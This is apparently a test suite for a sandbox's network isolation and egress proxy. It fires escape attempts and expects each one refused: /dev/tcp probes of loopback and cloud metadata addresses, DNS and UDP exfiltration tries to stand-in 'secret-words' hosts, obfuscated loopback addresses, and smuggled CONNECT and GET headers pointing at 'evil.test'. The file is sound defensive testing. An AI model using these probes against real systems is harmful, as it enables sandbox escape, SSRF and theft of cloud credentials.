import { chmodSync } from "node:fs";
import { connect, createServer, type Server } from "node:net";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, inject, test, vi } from "vitest";
import { parseExceptions } from "../../src/egress/exceptions.ts";
import type { EgressPolicy } from "../../src/egress/policy.ts";
import { serveEgress } from "../../src/egress/proxy.ts";
import { run, silent, until } from "../sandbox-support.ts";
import { attempts, type Ground, takeGround } from "./ground.ts";

vi.setConfig({ testTimeout: 60_000 });

let ground: Ground;
const servers: Server[] = [];
let reached = 0;
let port = 0;

/** A service of the host, which says so to whoever gets there. */
async function listen(...at: [number, string] | [string]): Promise<Server> {
  const server = createServer((socket) => {
    reached += 1;
    socket.on("error", () => {}).end("reached the host\n");
  });
  server.listen(...(at as [number, string]));
  servers.push(server);
  await until(() => server.listening);
  return server;
}

beforeAll(async () => {
  ground = await takeGround();
  port = ((await listen(0, "0.0.0.0")).address() as { port: number }).port;
  await listen(port, "::1");
  await listen(join(ground.outside, "..", `outrider-socket-${process.pid}`));
  await listen(`\0outrider-abstract-${process.pid}`);
  chmodSync(join(ground.outside, "..", `outrider-socket-${process.pid}`), 0o777);
  Object.assign(ground.env, {
    PORT: String(port),
    SOCKET: join(ground.outside, "..", `outrider-socket-${process.pid}`),
    ABSTRACT: `outrider-abstract-${process.pid}`,
    DATABASE: join(inject("postgres").host, `.s.PGSQL.${inject("postgres").port}`),
    ADDRESS: ownAddress() ?? "127.0.0.2",
  });
});
afterAll(async () => {
  for (const server of servers) server.close();
  await ground?.leave();
});

function ownAddress(): string | undefined {
  const all = Object.values(networkInterfaces()).flatMap((each) => each ?? []);
  return all.find(({ family, internal }) => family === "IPv4" && !internal)?.address;
}

const byUnix = (path: string) => `perl -MSocket -e 'socket(my $s, AF_UNIX, SOCK_STREAM, 0);
  connect($s, pack_sockaddr_un(${path})) or print "refused: $!\\n"; print <$s> if $s && getpeername($s)'`;
const words = /^reached the host/;

describe("without network, the host's services", () => {
  attempts(
    () => ground,
    [
      {
        name: "on loopback",
        command: "cat < /dev/tcp/127.0.0.1/$PORT",
        says: /Connection refused/,
        outside: words,
      },
      {
        name: "on loopback of IPv6",
        command: "cat < /dev/tcp/::1/$PORT",
        says: /Connection refused/,
        outside: words,
      },
      {
        name: "on its own address",
        command: "cat < /dev/tcp/$ADDRESS/$PORT",
        says: /refused|unreachable/,
        outside: words,
      },
      {
        name: "on any address",
        command: "cat < /dev/tcp/0.0.0.0/$PORT",
        says: /Connection refused/,
        outside: words,
      },
      {
        name: "on a socket with a path",
        command: byUnix("$ENV{SOCKET}"),
        says: /^refused: No such file/,
        outside: words,
      },
      {
        name: "on a socket without a path",
        command: byUnix("chr(0) . $ENV{ABSTRACT}"),
        says: /^refused: Connection refused/,
        outside: words,
      },
      { name: "of the database", command: byUnix("$ENV{DATABASE}"), says: /^refused: No such file/ },
      {
        name: "on the worker's own ports",
        command: "tail -n +2 /proc/net/tcp /proc/net/tcp6 /proc/net/unix",
        says: /^(?!.*0A)/,
      },
    ],
  );

  test("are really there, for whoever is not inside", async () => {
    const socket = connect(ground.env.DATABASE as string);
    await until(() => socket.readyState === "open");
    socket.destroy();
    expect(reached).toBe(6);
  });
});

describe("without network, the world", () => {
  attempts(
    () => ground,
    [
      {
        name: "metadata of clouds",
        command: "for a in 169.254.169.254 100.100.100.200 168.63.129.16; do cat < /dev/tcp/$a/80; done",
        says: /(?:[\s\S]*unreachable){3}/,
      },
      {
        name: "a name that carries words out",
        command:
          "getent hosts secret-words.example.com || echo none; echo x > /dev/udp/8.8.8.8/53; cat /etc/resolv.conf",
        says: /^none\n.*unreachable\n/,
      },
      {
        name: "a device or a route of its own",
        command: `perl -MSocket -e 'socket(my $s, AF_INET, SOCK_DGRAM, 0);
          my $down = pack("a16s", "lo", 0); ioctl($s, 0x8914, $down) ? print "down\\n" : print "refused: $!\\n"'; tail -n +2 /proc/net/route`,
        says: /^refused: Operation not permitted\n$/,
      },
    ],
  );
});

describe("with network, through the proxy", () => {
  const names: Record<string, string[]> = {
    "allowed.test": ["127.0.0.1"],
    "private.test": ["10.0.0.1"],
    "metadata.test": ["169.254.169.254"],
    "both.test": ["192.168.0.1", "fd00::1"],
  };

  async function openWith(policy: EgressPolicy, exceptions = "") {
    const asked: string[] = [];
    const lookup = async (name: string) => {
      asked.push(name);
      return names[name] ?? Promise.reject(new Error("no such name"));
    };
    const network = (listener: Server) =>
      void serveEgress({
        ...{ listener, policy, lookup, log: silent, refused: () => {} },
        exceptions: parseExceptions(exceptions),
      });
    return { sandbox: await ground.open({ network }), asked };
  }
  const open: EgressPolicy = { mode: "open", allow: [] };
  const list: EgressPolicy = { mode: "allowlist", allow: ["allowed.test", "*.wild.test"] };

  const ask = (head: string) =>
    `exec 3<> /dev/tcp/127.0.0.1/3128 && printf '${head}\\r\\n\\r\\n' >&3 && timeout 10 cat <&3; echo; exec 3>&-;`;
  const through = (target: string) => ask(`CONNECT ${target} HTTP/1.1\\r\\nHost: ${target}`);

  test("what the operator allows is reached, so that the rest are attempts", async () => {
    const { sandbox } = await openWith(open, `127.0.0.1:${port}`);
    expect((await run(sandbox, through(`127.0.0.1:${port}`))).stdout).toMatch(/ 200 [\s\S]*reached the host/);
    await sandbox.close();
  });

  test("neither the host nor its network is reached, however the address is written", async () => {
    const { sandbox } = await openWith(open);
    const before = reached;
    const hosts = [
      ...[
        "127.0.0.1",
        "127.1",
        "2130706433",
        "0x7f000001",
        "017700000001",
        "0x7f.1",
        "0",
        "0.0.0.0",
        "127.0.0.2",
      ],
      ...["[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]"],
      ...[
        "169.254.169.254",
        "[fd00:ec2::254]",
        "100.100.100.200",
        "168.63.129.16",
        "10.0.0.1",
        "192.168.0.1",
      ],
      ...["private.test", "metadata.test", "both.test", "allowed.test", "ALLOWED.TEST.", ground.env.ADDRESS],
    ];
    const { stdout } = await run(sandbox, hosts.map((host) => through(`${host}:${port}`)).join("\n"), {
      timeoutMs: 50_000,
    });
    const heads = stdout.match(/HTTP\/1\.1 \d+/g) ?? [];
    expect(heads).toEqual(hosts.map(() => "HTTP/1.1 403"));
    expect(reached).toBe(before);
    await sandbox.close();
  });

  test("with a list, no other name is even asked for, and no other host is meant", async () => {
    const { sandbox, asked } = await openWith(list);
    const heads = [
      "CONNECT secret-words.evil.test:443 HTTP/1.1\\r\\nHost: allowed.test",
      "GET http://secret-words.evil.test/ HTTP/1.1\\r\\nHost: allowed.test",
      "GET http://allowed.test@evil.test/ HTTP/1.1\\r\\nHost: allowed.test",
      "GET http://allowed.test.evil.test/ HTTP/1.1\\r\\nHost: allowed.test",
      "CONNECT wild.test:443 HTTP/1.1\\r\\nHost: wild.test",
      "CONNECT allowed.test:25 HTTP/1.1\\r\\nHost: allowed.test",
      "CONNECT evil.test\\\\0.allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test",
      "GET /secret HTTP/1.1\\r\\nHost: evil.test",
    ];
    const { stdout } = await run(sandbox, heads.map(ask).join("\n"));
    expect(stdout.match(/HTTP\/1\.1 \d+/g)).toHaveLength(heads.length);
    expect(stdout).not.toMatch(/HTTP\/1\.1 [25]/);
    expect(asked).toEqual([]);
    await run(sandbox, through("allowed.test:443"));
    expect(asked).toEqual(["allowed.test"]);
    await sandbox.close();
  });

  test("it gives nobody another way: the listener is the sandbox's own", async () => {
    const { sandbox } = await openWith(open);
    const ways = "127.0.0.1/$PORT ::1/$PORT 1.1.1.1/443 169.254.169.254/80";
    const command = `for way in ${ways}; do cat < /dev/tcp/$way 2> /dev/null || echo none; done`;
    expect((await run(sandbox, command, { env: ground.env })).stdout).toBe("none\n".repeat(4));
    await sandbox.close();
  });
});
